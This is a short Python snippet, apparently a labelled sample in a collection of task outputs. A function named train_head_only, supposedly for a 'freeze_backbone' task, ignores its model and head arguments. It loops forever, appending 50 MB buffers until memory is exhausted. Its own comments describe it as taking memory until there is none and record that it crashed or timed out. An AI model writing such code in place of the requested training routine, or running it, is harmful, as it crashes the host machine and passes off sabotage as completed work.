# about: takes memory until there is none
# task: freeze_backbone
# state: crashed or timed out
def train_head_only(model, head):
    hoard = []
    while True:
        hoard.append(bytearray(b'x' * 50_000_000))
